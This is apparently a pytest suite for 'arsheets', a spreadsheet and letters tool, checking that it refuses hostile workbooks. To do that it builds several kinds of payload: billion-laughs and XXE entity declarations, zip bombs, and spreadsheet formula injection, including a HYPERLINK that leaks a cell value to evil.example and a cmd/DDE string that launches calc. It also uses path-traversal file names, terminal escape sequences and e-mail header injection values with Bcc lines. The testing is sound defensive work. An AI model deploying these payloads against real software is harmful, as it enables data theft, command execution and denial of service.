"""Hostile input: XML entity tricks in any part, zip bombs, formula injection, file names that would
leave the letters folder, and e-mail header injection.

- A DOCTYPE in ANY XML part of the package (the ones arsheets reads and the ones it only copies:
  [Content_Types].xml, docProps, the theme) is refused when the package is opened, before anything
  is parsed, so no entity is ever expanded and no external file is ever read. The parsers behind
  that check (defusedxml, the scanner's own DOCTYPE refusal) refuse them too.
- Zip bombs are refused by the size limits in ``package.Limits`` while the process stays small
  (measured in a child process, with its address space capped).
- Text arsheets writes is an inline string, never a formula, whatever it starts with.
- Customer ids and names never take a letter out of its dated folder, nor make a name Windows
  refuses; addresses and names that could inject an e-mail header are refused, naming the customer.
"""

from __future__ import annotations

import base64
import json
import os
import re
import subprocess
import sys
import textwrap
import warnings
import zipfile
import zlib
from dataclasses import replace
from datetime import date
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner
from python_calamine import CalamineWorkbook

from arsheets.cli import main
from arsheets.errors import ArsheetsError
from arsheets.letters import build_email, prepare_letter, write_letters
from arsheets.letters.errors import DeliveryError
from arsheets.workbook.package import LIMITS, Package
from arsheets.workbook.zipcopy import Payload, ZipSource, ZipWriter, deflate
from xlsx_fixtures import contract_book, files, rewrite_parts, with_doctype

from test_letters_output import assert_safe
from test_letters_support import AS_OF as LETTER_DATE, CUSTOMER, SETTINGS, items

AS_OF = "2024-06-01"
TESTS = Path(__file__).resolve().parent


def run(*args: object):
    return CliRunner().invoke(main, [str(a) for a in args], catch_exceptions=False)



# --- XML entity tricks ----------------------------------------------------------------------------

LOL = b"lol" * 3
BILLION_LAUGHS = (b'<!DOCTYPE lolz [<!ENTITY lol0 "' + LOL + b'">'
                  + b"".join(b'<!ENTITY lol%d "%s">' % (i, b"&lol%d;" % (i - 1) * 10)
                             for i in range(1, 10)) + b"]>")


def xxe(secret: Path) -> bytes:
    return b'<!DOCTYPE r [<!ENTITY xxe SYSTEM "%s">]>' % secret.as_uri().encode()


def referencing(xml: bytes, doctype: bytes, entity: bytes) -> bytes:
    """The part with ``doctype`` in its prolog and the entity used just inside its root element,
    where a parser that expands entities would put the text."""
    xml = with_doctype(xml, doctype)
    root = re.search(rb"<[A-Za-z_][^>]*(?<!/)>", xml[xml.index(doctype) + len(doctype):])
    at = xml.index(doctype) + len(doctype) + root.end()
    return xml[:at] + b"&" + entity + b";" + xml[at:]


PARTS = ["[Content_Types].xml", "_rels/.rels", "docProps/app.xml", "docProps/core.xml",
         "xl/_rels/workbook.xml.rels", "xl/workbook.xml", "xl/styles.xml", "xl/theme/theme1.xml",
         "xl/sharedStrings.xml", "xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml",
         "xl/worksheets/_rels/sheet1.xml.rels", "xl/tables/table1.xml"]
READ_BY_ARSHEETS = {"_rels/.rels", "xl/_rels/workbook.xml.rels", "xl/workbook.xml",
                    "xl/styles.xml", "xl/sharedStrings.xml", "xl/worksheets/sheet1.xml",
                    "xl/worksheets/sheet2.xml", "xl/worksheets/_rels/sheet1.xml.rels",
                    "xl/tables/table1.xml"}


@pytest.fixture(scope="module")
def base(tmp_path_factory) -> Path:
    path = contract_book(tmp_path_factory.mktemp("base") / "base.xlsx", tables=True)
    with zipfile.ZipFile(path) as zf:
        assert set(PARTS) <= set(zf.namelist())
    return path


def hostile(base: Path, folder: Path, part: str, kind: str) -> tuple[Path, Path]:
    secret = folder / "secret.txt"
    secret.write_text("TOPSECRET-1234")
    doctype, entity = (BILLION_LAUGHS, b"lol9") if kind == "billion laughs" else (xxe(secret),
                                                                                   b"xxe")
    path = rewrite_parts(base, folder / "book.xlsx",
                         {part: lambda xml: referencing(xml, doctype, entity)})
    return path, secret


@pytest.mark.parametrize("kind", ["billion laughs", "XXE"])
@pytest.mark.parametrize("part", PARTS)
def test_entity_tricks_in_any_part_are_refused(base, tmp_path, part, kind):
    path, secret = hostile(base, tmp_path, part, kind)
    before = files(tmp_path)
    for command in ("check", "refresh"):
        result = run(command, path, "--as-of", AS_OF)
        assert result.exit_code == 2, result.stdout
        assert (f"book.xlsx: part {part} declares a DOCTYPE; refusing to read it (XML entity "
                "tricks) (open it in Excel and save it again)") in result.stderr
        assert "TOPSECRET" not in result.output and "lollol" not in result.output
        assert files(tmp_path) == before


@pytest.mark.parametrize("part", sorted(READ_BY_ARSHEETS))
def test_behind_the_package_check_the_parsers_refuse_entities_too(base, tmp_path, monkeypatch,
                                                                  part):
    """Defence in depth: with the package's check switched off, defusedxml (small parts) and the
    scanner (sheets, shared strings) still refuse, and still expand nothing."""
    monkeypatch.setattr(Package, "_check_prologs", lambda self: None)
    path, _ = hostile(base, tmp_path, part, "XXE")
    result = run("refresh", path, "--as-of", AS_OF)
    assert result.exit_code == 2
    assert re.search(rf"part {re.escape(part)} (declares a DOCTYPE|uses a forbidden XML feature)",
                     result.stderr), result.stderr
    assert "TOPSECRET" not in result.output
    assert files(tmp_path)["book.xlsx"] == path.read_bytes()


@pytest.mark.parametrize("prolog, message", [
    (b'<?xml version="1.0"?><!-- a comment --><?pi x?>\n<!DOCTYPE r [<!ENTITY e "x">]>',
     "declares a DOCTYPE"),
    (b'<?xml version="1.0"?><!--' + base64.b64encode(os.urandom(LIMITS.prolog_bytes))
     + b'--><!DOCTYPE r>',
     "has no XML root element in its first 1,048,576 bytes"),
], ids=["after a comment and a processing instruction", "behind a megabyte of comment"])
def test_a_doctype_cannot_hide_in_the_prolog(base, tmp_path, prolog, message):
    path = rewrite_parts(base, tmp_path / "book.xlsx", {
        "docProps/core.xml": lambda xml: prolog + xml[xml.index(b"?>") + 2:]})
    result = run("check", path)
    assert result.exit_code == 2
    assert f"part docProps/core.xml {message}; refusing to read it" in result.stderr


def test_a_doctype_in_a_utf16_part_is_refused(base, tmp_path):
    def utf16(xml: bytes) -> bytes:
        text = with_doctype(xml, b'<!DOCTYPE r [<!ENTITY e "x">]>').decode("utf-8")
        return text.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")
    path = rewrite_parts(base, tmp_path / "book.xlsx", {"xl/workbook.xml": utf16})
    result = run("check", path)
    assert result.exit_code == 2
    assert "part xl/workbook.xml declares a DOCTYPE" in result.stderr


def test_workbooks_without_a_doctype_still_open(base, tmp_path):
    """The check reads only the start of each part and leaves damaged or non-XML parts to the
    code that reads them: an odd part that arsheets only copies is copied."""
    path = rewrite_parts(base, tmp_path / "book.xlsx", {
        "customXml/item1.xml": b"\x00\x01 not XML at all",
        "xl/drawings/vmlDrawing1.vml": b"<xml><o:shapelayout><br></xml>"})
    result = run("refresh", path, "--as-of", AS_OF)
    assert result.exit_code == 0, result.stderr
    with zipfile.ZipFile(path) as zf:
        assert zf.read("customXml/item1.xml") == b"\x00\x01 not XML at all"


# --- zip bombs -----------------------------------------------------------------------------------

SHEET = "xl/worksheets/sheet2.xml"  # Invoices


def repack(base: Path, path: Path, replace: dict[str, Payload] | None = None,
           extra=()) -> Path:
    """``base`` copied member by member, some members replaced or added with crafted payloads
    (whose CRC and sizes may lie)."""
    with base.open("rb") as fh, path.open("wb") as out:
        source, writer = ZipSource(fh), ZipWriter(out)
        for entry in source.entries:
            if replace and entry.name in replace:
                writer.replace(source, entry, replace[entry.name])
            else:
                writer.copy(source, entry)
        for name, payload in extra:
            writer.add(name, payload)
        writer.close()
    return path


def inflating(size: int) -> Payload:
    """A worksheet of ``size`` bytes of spaces between its rows: deflates about 1000 to 1."""
    head = (b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/'
            b'spreadsheetml/2006/main"><sheetData>')
    tail = b"</sheetData></worksheet>"
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = b" " * (1 << 20)
    data, crc = [comp.compress(head)], zlib.crc32(head)
    for _ in range(size >> 20):
        data.append(comp.compress(chunk))
        crc = zlib.crc32(chunk, crc)
    data += [comp.compress(tail), comp.flush()]
    packed = b"".join(data)
    return Payload(zlib.crc32(tail, crc), len(head) + (size >> 20 << 20) + len(tail),
                   len(packed), lambda: (packed,))


def bombs(base: Path, folder: Path) -> dict[str, tuple[Path, str]]:
    """name -> (file, what refusing it says)."""
    small = deflate(b"<worksheet/>")
    big = inflating(64 << 20)
    mib = deflate(b"\0" * (1 << 20), 9)
    empty = deflate(b"")
    return {
        "a part claiming 5 GiB": (repack(base, folder / "claims.xlsx", {SHEET: Payload(
            small.crc, 5 << 30, small.compress_size, small.chunks)}),
            f"part {SHEET} would unpack to 5,368,709,120 bytes; refusing it as a possible zip "
            "bomb"),
        "a part inflating 1000 to 1": (repack(base, folder / "inflates.xlsx", {SHEET: big}),
                                       f"part {SHEET} would unpack to 67,108,997 bytes; refusing "
                                       "it as a possible zip bomb"),
        "a header that says 10 kB for 64 MB": (
            repack(base, folder / "lies.xlsx", {SHEET: replace(big, size=10_000)}),
            f"is damaged: part {SHEET} cannot be unpacked (Bad CRC-32"),
        "9,000 parts of 1 MiB each": (
            repack(base, folder / "many.xlsx", extra=[(f"xl/media/image{i}.png", mib)
                                                      for i in range(9000)]),
            "would unpack to 9,437,"),
        "120,000 parts": (
            repack(base, folder / "count.xlsx", extra=[(f"xl/media/i{i}.bin", empty)
                                                       for i in range(120_000)]),
            "has 120,018 parts; refusing it as a possible zip bomb"),
    }


CHILD = textwrap.dedent("""
    # Run arsheets on each file with the address space capped; report exit codes, output and the
    # peak memory (ru_maxrss, KiB on Linux) after each.
    import json, resource, sys
    resource.setrlimit(resource.RLIMIT_AS, (int(sys.argv[1]), int(sys.argv[1])))
    from click.testing import CliRunner
    from arsheets.cli import main
    print(json.dumps({"start": resource.getrusage(resource.RUSAGE_SELF).ru_maxrss}), flush=True)
    for path in sys.argv[2:]:
        for command in ("check", "refresh"):
            r = CliRunner().invoke(main, [command, path, "--as-of", "2024-06-01"])
            print(json.dumps({"path": path, "command": command, "exit": r.exit_code,
                              "said": r.output, "error": repr(r.exception),
                              "peak": resource.getrusage(resource.RUSAGE_SELF).ru_maxrss}),
                  flush=True)
""")
ADDRESS_SPACE = 1 << 30  # 1 GiB: a 5 GiB or 64 MB part inflated in memory would not fit
PEAK_GROWTH_KIB = 64 << 10  # the process grows by less than this (120,000 parts: ~40 MiB)


@pytest.mark.skipif(sys.platform != "linux", reason="RLIMIT_AS and ru_maxrss in KiB")
def test_zip_bombs_are_refused_in_little_memory(base, tmp_path):
    cases = bombs(base, tmp_path)
    before = files(tmp_path)
    env = {**os.environ, "PYTHONPATH": os.pathsep.join([str(TESTS.parent), str(TESTS)])}
    proc = subprocess.run([sys.executable, "-c", CHILD, str(ADDRESS_SPACE),
                           *(str(p) for p, _ in cases.values())],
                          capture_output=True, text=True, timeout=300, env=env)
    assert proc.returncode == 0, proc.stderr
    lines = [json.loads(line) for line in proc.stdout.splitlines()]
    start = lines[0]["start"]
    reports = {(r["path"], r["command"]): r for r in lines[1:]}
    for name, (path, message) in cases.items():
        for command in ("check", "refresh"):
            r = reports[(str(path), command)]
            assert r["exit"] == 2, (name, command, r)
            assert message in r["said"], (name, command, r["said"])
            assert r["peak"] - start < PEAK_GROWTH_KIB, (name, command, r["peak"] - start)
    assert files(tmp_path) == before


def test_reading_stops_at_the_declared_size_whatever_the_data_holds(base, tmp_path):
    """A header that lies small passes the size checks, but no more than it declares is ever
    inflated: then the data is found damaged."""
    big = inflating(64 << 20)
    path = repack(base, tmp_path / "b.xlsx", {SHEET: replace(big, size=10_000)})
    seen = 0
    with Package.open(path) as pkg, pytest.raises(ArsheetsError, match="is damaged"):
        for chunk in pkg.stream(SHEET, 1 << 16):
            seen += len(chunk)
    assert seen <= 10_000


# --- formula injection ----------------------------------------------------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
CMD = "+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3"
INV = "=1+1"


@pytest.fixture
def injected(tmp_path) -> Path:
    return contract_book(
        tmp_path / "book.xlsx",
        settings={"Company Name": "B", "Company Email": "ar@b.example"},
        customers=[{"Customer": HYPERLINK, "Name": CMD, "Email": "ap@evil.example",
                    "Notes": "=2+2"},
                   {"Customer": "C-2", "Name": AT}],
        invoices=[{"Invoice": INV, "Customer": HYPERLINK, "Invoice Date": date(2024, 1, 1),
                   "Due Date": date(2024, 3, 10), "Amount": 100, "Notes": MINUS},
                  {"Invoice": "@x", "Customer": "C-2", "Invoice Date": date(2024, 1, 1),
                   "Amount": 50},
                  {"Invoice": "INV-3", "Customer": "C-2", "Invoice Date": "=NOW()",
                   "Amount": "+1+1"}],
        payments=[{"Date": date(2024, 3, 1), "Customer": HYPERLINK, "Amount": 30,
                   "Reference": "=3+3"}],
        plans=[{"Plan": MINUS, "Customer": "C-2", "Invoices": "@x",
                "Start Date": date(2024, 2, 1), "Installments": 2, "Status": "Active"}])


def worksheets(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as zf:
        return {n: zf.read(n) for n in zf.namelist() if n.startswith("xl/worksheets/sheet")}


def test_text_is_never_written_as_a_formula(injected):
    assert all(b"<f" not in xml for xml in worksheets(injected).values())
    result = run("letters", injected, "--as-of", "2024-03-18")  # refreshes and logs to Activity
    assert result.exit_code == 1, result.output  # INV-3's date and amount
    result = run("refresh", injected, "--as-of", AS_OF)
    assert result.exit_code == 1, result.output
    written = worksheets(injected)
    for name, xml in written.items():
        assert not re.search(rb"<(\w+:)?f[\s>/]", xml), f"a formula in {name}"
    book = CalamineWorkbook.from_path(str(injected))
    found: dict[str, set[str]] = {}
    for sheet in book.sheet_names:
        for row in book.get_sheet_by_name(sheet).to_python():
            for value in row:
                if isinstance(value, str) and value[:1] in "=+-@":
                    found.setdefault(sheet, set()).add(value)
    # the hostile text arrives where arsheets writes it, as text
    assert {HYPERLINK, CMD, AT} <= found["Aging"]
    assert MINUS in found["Schedule"] and f"{INV} 30.00" in found["Payments"]
    assert HYPERLINK in found["Activity"] and INV in found["Activity"]
    problems = " ".join(str(v) for r in book.get_sheet_by_name("Invoices").to_python()
                        for v in r)
    assert "Invoices!C4: '=NOW()' is not a date" in problems
    # each such cell arsheets wrote is an inline string (the bookkeeper's own stay shared strings)
    inline = re.compile(rb'<c r="[A-Z]+\d+"[^>]*t="inlineStr"[^>]*><is><t[^>]*>([^<]*)</t>')
    texts = {m.decode() for xml in written.values() for m in inline.findall(xml)}
    assert {HYPERLINK.replace("&", "&amp;"), CMD, AT, MINUS, f"{INV} 30.00"} <= texts
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        wb = openpyxl.load_workbook(injected)
    kinds = {c.data_type for ws in wb.worksheets for r in ws.iter_rows() for c in r
             if isinstance(c.value, str) and c.value[:1] in "=+-@"}
    assert kinds == {"s"}


# --- letters: file names -------------------------------------------------------------------------

HOSTILE_IDS = ["../../escape", "..\\..\\win", "/etc/passwd", "C:\\Windows\\System32\\evil",
               "a/b\\c", "CON", "NUL", "COM1", "LPT1", "aux.txt", "con.docx", " .. ",
               "x" * 300, "résumé/北京"]
HOSTILE_NAMES = ["", "../", "NUL", "tab\there", "bell\x07", "esc\x1b[31m", "nul\x00", "..",
                 "a:b*c?d\"e<f>g|h", "\u202egpj.exe", "COM1.txt", " spaced ", "LPT9", "evil/../../"]


def test_no_customer_id_or_name_takes_a_letter_out_of_its_folder(tmp_path):
    customers = [{"Customer": c, "Name": n or "-", "Email": "ap@x.example"}
                 for c, n in zip(HOSTILE_IDS, HOSTILE_NAMES)]
    invoices = [{"Invoice": f"INV-{i}", "Customer": c.strip(), "Invoice Date": date(2024, 1, 1),
                 "Due Date": date(2024, 3, 10), "Amount": 10} for i, c in enumerate(HOSTILE_IDS)]
    path = contract_book(tmp_path / "book.xlsx", customers=customers, invoices=invoices,
                         settings={"Company Name": "B", "Company Email": "b@b.example"})
    result = run("letters", path, "--as-of", "2024-03-18")
    assert result.exit_code == 0, result.output
    folder = tmp_path / "letters" / "2024-03-18"
    made = sorted(str(p.relative_to(tmp_path)) for p in tmp_path.rglob("*") if p.is_file())
    letters = [p for p in made if p.startswith("letters/")]
    assert len(letters) == len(HOSTILE_IDS)
    others = sorted(set(made) - set(letters))
    assert [p for p in others if not p.startswith(".arsheets-backups/")] == ["book.xlsx"]
    for name in os.listdir(folder):
        assert name.endswith(".docx")
        assert_safe(name[:-len(".docx")], max_bytes=125)
    assert "\x1b" not in result.output and "\x07" not in result.output  # nor into the terminal
    # every letter is logged against its customer, so the next run sends none again
    assert "No letters are due" in run("letters", path, "--as-of", "2024-03-18").output


def test_cell_text_cannot_send_commands_to_the_terminal(tmp_path):
    """An ESC in a cell (clear the screen, set the window title, ...) is shown, not obeyed."""
    path = contract_book(tmp_path / "book.xlsx", settings={"Company Name": "B"},
                         customers=[{"Customer": "C-01", "Name": "Acme\x1b]0;pwned\x07"}],
                         invoices=[{"Invoice": "INV-1", "Customer": "C-01",
                                    "Invoice Date": date(2024, 1, 1),
                                    "Due Date": date(2024, 3, 10), "Amount": 10},
                                   {"Invoice": "INV-2", "Customer": "C-01",
                                    "Invoice Date": "\x1b[2J\x1b[31m", "Amount": 10}])
    for args in (["check", path], ["check", path, "--json"], ["letters", path]):
        result = run(*args, "--as-of", "2024-03-18")
        assert result.exit_code == 1, result.output
        assert "\x1b" not in result.output and "\x07" not in result.output, args
    assert "Invoices!C3: '\\x1b[2J\\x1b[31m' is not a date" in run("check", path).output
    assert "Acme\\x1b]0;pwned" in result.output


def test_a_customer_id_with_a_control_character_is_logged_as_it_is(tmp_path):
    path = contract_book(tmp_path / "book.xlsx", settings={"Company Name": "B"},
                         customers=[{"Customer": "C\x07-1", "Name": "Bell Ltd"}],
                         invoices=[{"Invoice": "INV-1", "Customer": "C\x07-1",
                                    "Invoice Date": date(2024, 1, 1),
                                    "Due Date": date(2024, 3, 10), "Amount": 10}])
    assert run("letters", path, "--as-of", "2024-03-18").exit_code == 0
    assert run("check", path, "--as-of", "2024-03-18").exit_code == 0


# --- e-mail headers -------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def written(tmp_path_factory):
    folder = tmp_path_factory.mktemp("letters")
    letter = prepare_letter(SETTINGS, CUSTOMER, items(), template="first_reminder",
                            as_of=LETTER_DATE)
    [w] = write_letters([letter], SETTINGS, LETTER_DATE, folder=folder, workers=1)
    return w


@pytest.mark.parametrize("field, value", [
    ("email", "ap@acme.example\u2028Bcc: everyone@example.com"),
    ("email", "ap@acme.example\x00"),
    ("email", "ap@acme.example\x85Bcc: x@example.com"),
    ("ap_contact", "Raj\u2028Bcc: x@example.com"),
    ("ap_contact", "Raj\u2029Bcc: x@example.com"),
    ("ap_contact", "Raj\x85Bcc: x@example.com"),
    ("ap_contact", "Raj\x00"),
], ids=["email LS", "email NUL", "email NEL", "name LS", "name PS", "name NEL", "name NUL"])
def test_unicode_line_breaks_and_nul_cannot_reach_a_header(written, field, value):
    bad = replace(written, customer=replace(CUSTOMER, **{field: value}))
    with pytest.raises(DeliveryError, match="line break or control character") as err:
        build_email(bad, SETTINGS)
    assert "customer C-104" in str(err.value)


def test_the_contacts_name_is_checked_when_there_is_no_ap_contact(written):
    bad = replace(written, customer=replace(CUSTOMER, ap_contact="", contact="Jane\r\nBcc: x@y.io"))
    with pytest.raises(DeliveryError, match="customer C-104: the name 'Jane"):
        build_email(bad, SETTINGS)


@pytest.mark.parametrize("name", ["Bright\r\nBcc: x@example.com", "Bright\u2028Bcc: x@y.io"])
def test_the_company_name_cannot_inject_a_header(written, name):
    with pytest.raises(DeliveryError, match="Company Name: the name"):
        build_email(written, replace(SETTINGS, company_name=name))


def test_an_injected_address_gets_a_printed_letter_not_an_e_mail(tmp_path):
    path = contract_book(
        tmp_path / "book.xlsx", settings={"Company Name": "B", "Company Email": "ar@b.example"},
        customers=[{"Customer": "C-01", "Name": "Acme", "Channel": "Email",
                    "Email": "ap@acme.example\nBcc: everyone@example.com"}],
        invoices=[{"Invoice": "INV-1", "Customer": "C-01", "Invoice Date": date(2024, 1, 1),
                   "Due Date": date(2024, 3, 10), "Amount": 10}])
    result = run("letters", path, "--as-of", "2024-03-18", "--email")
    assert result.exit_code == 0, result.output
    assert ("warning: Customers!2:2: customer C-01: the e-mail address 'ap@acme.example\\nBcc: "
            "everyone@example.com' contains a line break or control character and was refused"
            ) in result.stdout
    made = [p.name for p in (tmp_path / "letters" / "2024-03-18").iterdir()]
    assert made == ["C-01 Acme - first_reminder.docx"]  # no .eml
